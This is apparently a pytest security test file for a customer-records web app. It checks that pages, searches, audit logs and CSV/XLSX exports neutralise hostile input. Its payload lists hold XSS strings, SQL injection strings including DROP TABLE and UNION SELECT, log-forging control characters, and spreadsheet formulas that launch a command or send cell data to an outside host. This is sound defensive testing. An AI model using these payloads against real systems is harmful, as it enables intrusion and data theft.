"""IN-01, IN-03, IN-04, IN-05 and the input cases of IV-01..IV-03 (security.md Part 5 C and E).

Covered elsewhere and not repeated: escaping of notices, archive documents and audit details
(tests/core/test_admin_modules.py, tests/modules/archives/test_archives_documents.py,
tests/core/test_audit.py); audit detail cleaning and cutting (tests/core/test_audit.py); the
validators' accepted and refused forms (tests/core/test_validation.py); export formula guards on
the service level (tests/modules/customers/test_io.py); PDFs printing markup literally
(tests/core/test_pdf.py).
"""
from __future__ import annotations

import csv
import datetime
import io
import re
import unicodedata
from html import unescape

import pytest
from markupsafe import escape
from seclib import ID_A, SEPARATE_CONSENT, find_canaries, pdf_bytes, read_xlsx, rows_of_list
from sqlalchemy import select

from core.db import db

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "</textarea><script>alert(2)</script>",
    "'-alert(1)-'<style>@import 'x'</style>",
    "<a href=javascript:alert(1)>点我</a>",
)
LITERALS = ("{{7*7}}{% raw %}", "javascript:alert(1)")


def _field_error(html, name):
    match = re.search(rf'id="{name}-error">([^<]*)<', html)
    return unescape(match.group(1)) if match else None


def _count(model):
    with db.session.no_autoflush:
        return db.session.scalar(select(db.func.count()).select_from(model))


# --- IN-01: stored XSS --------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile(world):
    """Customers, records and documents of department A whose every free text is a payload."""
    from modules.archives import services as archives
    from modules.customers import services

    out = {"people": [], "orgs": [], "docs": []}
    with world.app.app_context():
        a1 = world.user("a1")
        for i, payload in enumerate(PAYLOADS + LITERALS):
            person = services.create_customer(a1, {
                "kind": "person", "name": payload, "notes": payload, "tags": payload.replace(",", " "),
                "home_address": payload, "emergency_contact": payload}, consent={**SEPARATE_CONSENT, "scope": payload})
            services.change_status(a1, person, "active", payload)
            services.add_transaction(a1, person, {"kind": "service", "occurred_on": "2024-03-01", "product": payload,
                                                  "notes": payload})
            org = services.create_customer(a1, {
                "kind": "org", "company_name": f"{payload}{i}", "business_scope": payload, "industry": payload,
                "company_address": payload, "legal_rep": payload})
            services.add_contact(a1, org, {"name": payload, "title": payload})
            doc = archives.create_document(a1, person, {
                "doc_type": "contract", "title": payload, "doc_date": datetime.date(2024, 5, 1), "amount": None,
                "keeper_id": a1.id, "storage_location": payload})
            archives.add_attachment(a1, doc, f"{payload}.pdf", pdf_bytes())
            out["people"].append(person.id)
            out["orgs"].append(org.id)
            out["docs"].append(doc.id)
        db.session.commit()
    return out


def _assert_inert(html, where, expect_shown=()):
    for payload in PAYLOADS:
        assert payload not in html, (where, payload)
    for marker in ("<script>alert", "<img src=x", "<svg onload", 'href="javascript:', "<a href=javascript",
                   "<style>@import"):
        assert marker not in html, (where, marker)
    for payload in expect_shown:
        assert str(escape(payload)) in html, (where, payload)


@pytest.mark.slow
def test_payloads_are_inert_on_every_page(world, hostile):
    client = world.client("a1")
    for i, payload in enumerate(PAYLOADS):
        person, org, doc = hostile["people"][i], hostile["orgs"][i], hostile["docs"][i]
        shown = (payload,)
        displayed = {"detail", "org detail", "edit", "org edit", "document"}
        pages = {
            "detail": f"/customers/{person}", "org detail": f"/customers/{org}", "edit": f"/customers/{person}/edit",
            "org edit": f"/customers/{org}/edit", "status": f"/customers/{person}/status",
            "transactions": f"/customers/{person}/transactions", "grading": f"/grading/customers/{person}",
            "archive": f"/archives/{person}", "document": f"/archives/documents/{doc}",
            "document edit": f"/archives/documents/{doc}/edit",
        }
        for where, url in pages.items():
            response = client.get(url)
            assert response.status_code == 200, (where, url)
            _assert_inert(response.get_data(as_text=True), where, shown if where in displayed else ())
        for where, url in (("list", "/customers/?size=100"), ("search", "/customers/?q=" + payload),
                           ("archives list", "/archives/"), ("incomplete", "/customers/incomplete")):
            _assert_inert(client.get(url).get_data(as_text=True), where)
    search = client.get("/customers/", query_string={"q": PAYLOADS[0]}).get_data(as_text=True)
    assert hostile["people"][0] in rows_of_list(search)  # found by its exact (encrypted) name
    for literal in LITERALS:  # template syntax and a javascript: URL are plain text
        person = hostile["people"][len(PAYLOADS) + LITERALS.index(literal)]
        html = client.get(f"/customers/{person}").get_data(as_text=True)
        assert str(escape(literal)) in html and 'href="javascript' not in html


def test_payloads_reach_the_audit_viewer_escaped(world, hostile):
    ha = world.client("ha")
    person = hostile["people"][0]
    for payload in PAYLOADS:
        ha.post(f"/customers/{person}/reveal/home_address", data={"reason": payload})
    ha.post("/customers/export", data={"reason": PAYLOADS[1], "fmt": "csv"})
    for payload in PAYLOADS:
        if len(payload) <= 64:
            world.app.test_client().post("/login", data={"username": payload, "password": "Whatever-pass-1"})
    html = world.client("au").get("/audit/").get_data(as_text=True)
    _assert_inert(html, "audit viewer", PAYLOADS[:3])


def test_file_names_and_import_headers_are_escaped(world):
    """The import page names unknown columns; an upload keeps a (sanitised) file name."""
    ha = world.client("ha")
    header = f"类型,名称,{PAYLOADS[0]},{PAYLOADS[2]}\n个人,张三,x,y\n".encode()
    response = ha.post("/customers/import", data={"file": (io.BytesIO(header), "x.csv")},
                       content_type="multipart/form-data")
    assert response.status_code == 400
    _assert_inert(response.get_data(as_text=True), "import", (PAYLOADS[0],))
    html = world.client("a1").get(f"/archives/documents/{world.ids['doc_a']}").get_data(as_text=True)
    _assert_inert(html, "document")


# --- IN-03: SQL injection and LIKE wildcards -------------------------------------------------------------

SQLI = ("' OR 1=1--", "') UNION SELECT name_ct, id_number_ct FROM customers_customer--",
        "1; DROP TABLE customers_customer", "%", "_", "\\", "%%", "%' --", "乙方' OR '1'='1",
        "' AND randomblob(100000000)--", "\"; SELECT pg_sleep(5)--", "x" * 5000, "*", "[%]")


@pytest.mark.slow
def test_search_and_filters_take_hostile_input_as_data(world):
    from modules.customers import services
    from modules.customers.models import Customer
    with world.app.app_context():
        percent = services.create_customer(world.user("a1"), {"kind": "org", "company_name": "百分%公司_甲"}).id
        db.session.commit()
        mine = dict(db.session.execute(select(Customer.id, Customer.company_name)
                                       .where(Customer.department_id == world.depts["DA"])).all())
        total = _count(Customer)
    ha = world.client("ha")
    for q in SQLI:
        response = ha.get("/customers/", query_string={"q": q})
        assert response.status_code == 200, q
        found = rows_of_list(response.get_data(as_text=True))
        assert found <= set(mine), q
        if q in ("%", "_", "%%", "\\", "*", "' OR 1=1--"):  # a wildcard matches only itself
            assert found == {i for i, name in mine.items() if name and q in name}, q
    assert percent in rows_of_list(ha.get("/customers/", query_string={"q": "%"}).get_data(as_text=True))
    assert rows_of_list(ha.get("/customers/", query_string={"q": "%公司_甲"}).get_data(as_text=True)) == {percent}
    assert rows_of_list(ha.get("/customers/", query_string={"q": "百分_公司"}).get_data(as_text=True)) == set()
    params = ("status", "kind", "owner", "department", "sort", "dir", "size", "after", "before", "page", "grade")
    for name in params:
        for value in SQLI[:3] + ("-1", "1e309", "１２"):
            response = ha.get("/customers/", query_string={name: value})
            assert response.status_code == 200, (name, value)
            assert rows_of_list(response.get_data(as_text=True)) <= set(mine), (name, value)
    for url, names in (("/archives/", ("q", "type", "page")), ("/archives/incomplete", ("keeper", "page")),
                       ("/customers/incomplete", ("owner", "after"))):
        for name in names:
            for value in SQLI[:3]:
                assert ha.get(url, query_string={name: value}).status_code == 200, (url, name, value)
    au = world.client("au")
    for name in ("actor", "action", "target_id", "result", "since", "until", "before"):
        for value in SQLI[:3]:
            assert au.get("/audit/", query_string={name: value}).status_code == 200, (name, value)
    assert "No entries" in au.get("/audit/", query_string={"action": "%"}).get_data(as_text=True) or \
        'colspan="8"' in au.get("/audit/", query_string={"action": "%"}).get_data(as_text=True)
    with world.app.app_context():
        assert _count(Customer) == total


def test_nul_in_searches_filters_and_sign_in_is_never_500(world, monkeypatch):
    monkeypatch.setitem(world.app.config, "PROPAGATE_EXCEPTIONS", False)
    ha, au = world.client("ha"), world.client("au")
    failures = []
    for client, url, names in ((ha, "/customers/", ("q", "status", "owner", "sort")), (ha, "/archives/", ("q", "type")),
                               (au, "/audit/", ("actor", "action", "target_id", "result", "since"))):
        for name in names:
            status = client.get(url, query_string={name: "a\x00b"}).status_code
            if status >= 500:
                failures.append((url, name, status))
    before = world.audit_max()
    status = world.app.test_client().post("/login", data={"username": "a1\x00", "password": "Whatever-pass-1"}).status_code
    if status >= 500:
        failures.append(("/login", status))
    elif [e.action for e in world.audit_since(before)] != ["core.auth.failed"]:
        failures.append(("/login", "not audited"))
    status = ha.post("/archives/requests/new", data={"customer_number": "KH\x00", "kind": "view", "purpose": "核对",
                                                     "until": "2030-01-01"}).status_code
    if status >= 500:
        failures.append(("/archives/requests/new", status))
    assert failures == []


@pytest.mark.parametrize("reason", ["客户\x00要求", "客户\u202e要求"])
def test_control_characters_in_the_grading_reason_are_a_field_error(world, monkeypatch, reason):
    monkeypatch.setitem(world.app.config, "PROPAGATE_EXCEPTIONS", False)
    from modules.grading.models import History
    with world.app.app_context():
        before = _count(History)
    response = world.client("ha").post(f"/grading/customers/{world.ids['ca']}/override",
                                       data={"grading-grade": "important", "grading-reason": reason})
    assert response.status_code == 400 and _field_error(response.get_data(as_text=True), "grading-reason")
    with world.app.app_context():
        assert _count(History) == before


HUGE = ("99999999999999999999", "-99999999999999999999")


def test_oversized_integers_in_queries_and_forms_are_data_never_500(world, monkeypatch):
    monkeypatch.setitem(world.app.config, "PROPAGATE_EXCEPTIONS", False)
    ha, au, ad, a1 = world.client("ha"), world.client("au"), world.client("ad"), world.client("a1")
    failures = []
    for client, url, names in (
            (ha, "/customers/", ("owner", "department", "after", "before")),
            (ha, "/customers/incomplete", ("owner", "after")), (ha, "/archives/", ("page",)),
            (ha, "/archives/incomplete", ("keeper", "page")), (au, "/audit/", ("before",))):
        for name in names:
            for value in HUGE:
                status = client.get(url, query_string={name: value}).status_code
                if status >= 500:
                    failures.append((url, name, value, status))
    status = ha.get(f"/customers/{world.ids['ca']}/transactions", query_string={
        "before": f"2024-01-01_{HUGE[0]}"}).status_code
    if status >= 500:
        failures.append(("transactions", "before", status))
    for client, url, data in (
            (ad, "/admin/modules/archives/enable", {"department_id": HUGE[0]}),
            (ad, "/admin/users", {"username": "huge", "password": "Long-pass-123", "role": "sales",
                                  "department_id": HUGE[0]}),
            (ad, f"/admin/users/{world.users['a2']}", {"role": "sales", "department_id": HUGE[0], "active": "1"}),
            (ha, "/customers/handover", {"from_user": HUGE[0], "to_user": HUGE[0]}),
            (a1, f"/customers/{world.ids['ca']}/shares", {"user_id": HUGE[0]}),
            (ha, "/customers/new?kind=person", {"name": "超大编号", "owner_id": HUGE[0]})):
        status = client.post(url, data=data).status_code
        if status >= 500:
            failures.append((url, status))
    assert failures == []


# --- IN-04: log and audit injection --------------------------------------------------------------------

NASTY = ("evil\r\n[INFO] admin logged in", "ansi\x1b[2J\x1b[31mred", "line\u2028sep\u2029para", "tab\tvt\x0b")


def _clean(text):
    return not any(unicodedata.category(c) in ("Cc", "Zl", "Zp") for c in text)


def test_control_characters_in_sign_in_names_and_searches_give_one_clean_entry(world, caplog):
    client = world.app.test_client()
    for name in NASTY:
        before = world.audit_max()
        client.post("/login", data={"username": name, "password": "Whatever-pass-1"})
        entries = world.audit_since(before)
        assert [e.action for e in entries] == ["core.auth.failed"], name
        assert _clean(entries[0].actor) and _clean(entries[0].details) and len(entries[0].actor) <= 64
    a1 = world.client("a1")
    for q in (*NASTY, "检索" * 50_000):
        before = world.audit_max()
        assert a1.get("/customers/", query_string={"q": q}).status_code == 200
        entries = world.audit_since(before)
        assert [e.action for e in entries] == ["customers.customer.searched"]
        assert _clean(entries[0].details) and q[:20] not in entries[0].details and len(entries[0].details) < 1000
    assert "admin logged in" not in "\n".join(r.getMessage() for r in caplog.records if "\n" in r.getMessage())
    html = world.client("au").get("/audit/", query_string={"action": "core.auth.failed"}).get_data(as_text=True)
    assert "\x1b" not in html and "\u2028" not in html and "evil\\u000d\\u000a[INFO]" in html


def test_a_100_kb_sign_in_name_is_one_truncated_entry(world):
    before = world.audit_max()
    response = world.app.test_client().post("/login", data={"username": "\r\n" + "名" * 100_000,
                                                             "password": "Whatever-pass-1"})
    assert response.status_code in (200, 400)
    entries = world.audit_since(before)
    assert [e.action for e in entries] == ["core.auth.failed"]
    assert len(entries[0].actor) <= 64 and _clean(entries[0].actor)


# --- IN-05: formulas in exports -----------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://x/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0",
            "=1+1\t", "-50.00")


def test_exports_neutralise_formulas_and_keep_phones_readable(world):
    from modules.customers import services
    with world.app.app_context():
        a1 = world.user("a1")
        for i, formula in enumerate(FORMULAS):
            services.create_customer(a1, {"kind": "org", "company_name": formula, "business_scope": formula,
                                          "company_address": "\t" + formula, "notes": formula,
                                          "phone": f"+86 139 0013 {9100 + i}"})
        db.session.commit()
    ha = world.client("ha")
    csv_data = ha.post("/customers/export", data={"reason": "公式检查", "fmt": "csv"}).get_data()
    rows = list(csv.DictReader(io.StringIO(csv_data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for header, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0")), (header, cell)
    formulas = {f.strip() for f in FORMULAS}
    ours = [r for r in rows if r["名称"][1:] in formulas]
    assert len(ours) == len(FORMULAS)
    assert {r["手机"] for r in ours} == {f"139 0013 {9100 + i}" for i in range(len(FORMULAS))}
    sheet = read_xlsx(ha.post("/customers/export", data={"reason": "公式检查", "fmt": "xlsx"}).get_data())
    header = [c.value for c in sheet[1]]
    checked = 0
    for cells in sheet.iter_rows(min_row=2):
        row = dict(zip(header, cells, strict=True))
        for cell in cells:
            if cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                if str(cell.value).startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
        if row["名称"].value in formulas:
            checked += 1
            assert row["手机"].value.startswith("139 0013 91")  # as people write it, a text cell
    assert checked == len(FORMULAS)


# --- input cases: full-width digits, rare characters, bidi, NUL, trailing characters -----------------------

def _post_person(client, **fields):
    data = {"name": "输入测试", "consent_purposes": ["service"], "consent_channel": "paper",
            "consent_sensitive": "y", "confirm_duplicate": "1", **fields}
    return client.post("/customers/new?kind=person", data=data)


def _created_id(response):
    assert response.status_code == 302, response.get_data(as_text=True)[:300]
    return int(response.headers["Location"].rstrip("/").rsplit("/", 1)[-1])


def test_full_width_digits_find_the_same_customer(world):
    a1 = world.client("a1")
    customer = _created_id(_post_person(a1, name="全角客户", phone="１３９００１３９２２２",
                                        id_number="３１０１１５１９７００１０１００４６"))
    for q in ("13900139222", "１３９００１３９２２２", "+86 139-0013-9222", "310115197001010046",
              "３１０１１５１９７００１０１００４６"):
        assert rows_of_list(a1.get("/customers/", query_string={"q": q}).get_data(as_text=True)) == {customer}, q
    from modules.customers.models import Customer
    with world.app.app_context():
        row = db.session.get(Customer, customer)
        assert (row.phone, row.id_number) == ("+8613900139222", "310115197001010046")


def test_rare_characters_and_emoji_round_trip_exactly(world):
    from modules.customers.models import Customer
    name, notes = "测试𠮷𡃁䶮", "客户喜欢😀和👨‍👩‍👧‍👦，住在𡃁村（全角，标点）"
    a1 = world.client("a1")
    customer = _created_id(_post_person(a1, name=name, notes=notes, home_address="广西𡃁村1号"))
    html = a1.get(f"/customers/{customer}").get_data(as_text=True)
    assert name in html and notes in html
    edit = a1.get(f"/customers/{customer}/edit").get_data(as_text=True)
    assert f'value="{name}"' in edit and notes in edit
    with world.app.app_context():
        row = db.session.get(Customer, customer)
        assert (row.name, row.notes, row.home_address) == (name, notes, "广西𡃁村1号")
    assert customer in rows_of_list(a1.get("/customers/", query_string={"q": name}).get_data(as_text=True))


@pytest.mark.parametrize("field,value", [
    ("name", "abc\u202efdp.exe"), ("name", "nul\x00name"), ("notes", "备注\x00"), ("home_address", "\u2066地址\u2069"),
    ("emergency_contact", "联系人\x00"),
])
def test_bidi_controls_and_nul_are_refused_next_to_the_field(world, field, value):
    from modules.customers.models import Customer
    with world.app.app_context():
        before = _count(Customer)
    response = _post_person(world.client("a1"), **{field: value})
    assert response.status_code == 400
    assert _field_error(response.get_data(as_text=True), field)
    with world.app.app_context():
        assert _count(Customer) == before


def test_bidi_and_nul_elsewhere_are_field_errors_never_500(world):
    a1, ha = world.client("a1"), world.client("ha")
    org = _created_id(a1.post("/customers/new?kind=org", data={"company_name": "控制字符公司"}))
    for url, data, field in (
            ("/customers/new?kind=org", {"company_name": "公司\u202e"}, "company_name"),
            (f"/customers/{org}/contacts/new", {"name": "联系人\x00"}, "name"),
            (f"/customers/{org}/transactions/new", {"kind": "service", "occurred_on": "2024-01-01",
                                                   "product": "产品\u202e"}, "product"),
            (f"/archives/{world.ids['ca']}/new", {"doc_type": "other", "title": "标题\u202e",
                                                  "doc_date": "2024-01-01", "keeper_id": world.users["a1"]}, "title")):
        response = a1.post(url, data=data)
        assert response.status_code in (200, 400), url
        assert _field_error(response.get_data(as_text=True), field), url
    for q in ("a\u202eb", "\u2066x\u2069"):  # NUL: see test_nul_in_searches_filters_and_sign_in_is_never_500
        assert a1.get("/customers/", query_string={"q": q}).status_code == 200
        assert ha.get("/archives/", query_string={"q": q}).status_code == 200
    # bytes that are no UTF-8 (a lone surrogate, encoded): data, never a 500
    for raw in (b"q=%ED%A0%80", b"q=%FF%FE", b"q=%C0%AF"):
        assert a1.get("/customers/?" + raw.decode()).status_code == 200
    response = a1.post("/customers/new?kind=person", data=b"name=%ED%A0%80&consent_channel=paper",
                       content_type="application/x-www-form-urlencoded")
    assert response.status_code in (200, 302, 400)  # U+FFFD in place of the bad bytes


def test_trailing_stars_and_spaces_round_trip_byte_identically(world):
    """sqlalchemy-utils' naive padding strips trailing '*' (security.md 2.2); kehu's AES-GCM fields
    must not. Through the form, surrounding whitespace is trimmed by design (clean_text)."""
    from modules.customers.models import Customer
    a1 = world.client("a1")
    customer = _created_id(_post_person(a1, name="王**", notes="服务太差***", home_address="某路3号*"))
    with world.app.app_context():
        row = db.session.get(Customer, customer)
        assert (row.name, row.notes, row.home_address) == ("王**", "服务太差***", "某路3号*")
        values = {"notes": "末尾星号***", "home_address": "地址  ", "emergency_contact": "  前后空格 *  ",
                  "bank_account": "6222021234567890123 ", "name": "*"}
        for field, value in values.items():
            setattr(row, field, value)
        db.session.commit()
    with world.app.app_context():
        row = db.session.get(Customer, customer)
        for field, value in values.items():
            assert getattr(row, field).encode() == value.encode(), field
    html = a1.get(f"/customers/{customer}").get_data(as_text=True)
    assert "末尾星号***" in html and ID_A not in html and find_canaries(html.encode()) == []
